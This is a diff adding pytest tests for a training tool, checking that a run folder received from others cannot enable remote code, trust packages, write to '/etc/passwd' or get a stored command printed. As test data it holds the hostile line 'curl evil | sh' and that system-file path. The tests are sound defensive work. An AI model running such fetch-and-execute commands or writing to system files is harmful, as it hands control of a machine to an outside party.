@@ -1,0 +1,102 @@
+"""A run's folder from somebody else: its files grant no trust, and type no commands."""
+
+import json
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from trainer.launching import yaml_files
+from trainer.run import Run
+
+Composed = Callable[..., Run]
+Refused = Callable[..., str]
+
+HUB_METRIC = {
+    "_target_": "trainer.metrics.hub.HubMetric",
+    "name": "m",
+    "greater_is_better": True,
+    "trust_remote_code": True,
+}
+
+
+@pytest.fixture
+def received(composed: Composed, tmp_path: Path) -> Callable[..., None]:
+    """Puts the config of a run, with other entries, into the folder `theirs`."""
+
+    def put(**entries: object) -> None:
+        folder = tmp_path / "theirs"
+        folder.mkdir(exist_ok=True)
+        (folder / "config.yaml").write_text(yaml_files.dump({**composed().config, **entries}))
+
+    return put
+
+
+def test_a_received_config_does_not_trust_itself(
+    received: Callable[..., None], refused: Refused, composed: Composed
+) -> None:
+    metrics = {"m": HUB_METRIC}
+    received(metrics=metrics)
+    for more in ([], ["job=evaluate"]):
+        line = refused("from=theirs", *more)
+        assert line.startswith("theirs/config.yaml: metrics.m.trust_remote_code: found true")
+        assert "metrics.m.trust_remote_code=true on the command line" in line
+    # a mapping is merged, and says nothing of what it does not name
+    assert "metrics.m.trust_remote_code" in refused("from=theirs", "metrics={other: null}")
+    allowed = composed("from=theirs", "metrics.m.trust_remote_code=true")
+    assert allowed.metrics["m"].trust_remote_code
+    assert not composed("from=theirs", "~metrics.m").metrics
+    assert not composed("from=theirs", "metrics=none").metrics
+
+
+def test_packages_are_trusted_on_the_command_line_alone(
+    received: Callable[..., None], refused: Refused
+) -> None:
+    target = {"_target_": "json.decoder.JSONDecoder"}
+    received(trusted_packages=["json"], callbacks={"c": target})
+    line = refused("from=theirs")
+    assert line.startswith("theirs/config.yaml: trusted_packages: found ['json']")
+    assert "trusted_packages=[json] on the command line" in line
+    received(callbacks={"c": target})
+    line = refused("from=theirs")
+    assert line.startswith("theirs/config.yaml: callbacks.c._target_: found 'json.decoder.JSON")
+    assert "trusted_packages=[json] on the command line" in line
+    assert "is no dataclass" in refused("from=theirs", "trusted_packages=[json]")
+
+
+def test_a_received_config_does_not_say_where_to_write(
+    received: Callable[..., None], refused: Refused
+) -> None:
+    received(output={"file": "/etc/passwd"})
+    assert refused("from=theirs").startswith("theirs/config.yaml: output.file: found '/etc/passwd'")
+
+
+def test_a_model_names_no_recipe_of_an_untrusted_package(refused: Refused, tmp_path: Path) -> None:
+    (tmp_path / "model").mkdir()
+    text = json.dumps({"recipe": "json.decoder.JSONDecoder", "fields": {}})
+    (tmp_path / "model" / "recipe.json").write_text(text)
+    line = refused("job=predict", "model.path=model", "input.text=a")
+    assert line.startswith("model/recipe.json: recipe: found 'json.decoder.JSONDecoder'")
+    assert "trusted_packages=[json] on the command line" in line
+
+
+def test_commands_of_a_received_run_are_not_printed(
+    composed: Composed, capsys: pytest.CaptureFixture[str]
+) -> None:
+    from trainer.jobs.train import _show_complete
+
+    run = composed()
+    results = {"steps": 3, "epochs": 1.0, "samples": 5, "seconds": 1.0}
+    results |= {"commands": {"evaluate": "curl evil | sh"}, "model_path": "evil", "metrics": {}}
+    _show_complete(run, results)
+    printed = capsys.readouterr().out
+    assert "evil" not in printed and f"from={run.output_dir} job=evaluate" in printed
+
+
+def test_results_of_wrong_types_are_one_line(composed: Composed) -> None:
+    from trainer.errors import InputError
+    from trainer.jobs.train import _show_complete
+
+    bad = {"steps": [], "epochs": "x", "samples": None, "seconds": {}, "metrics": 3}
+    with pytest.raises(InputError, match=r"results.json: not what this program writes"):
+        _show_complete(composed(), bad)
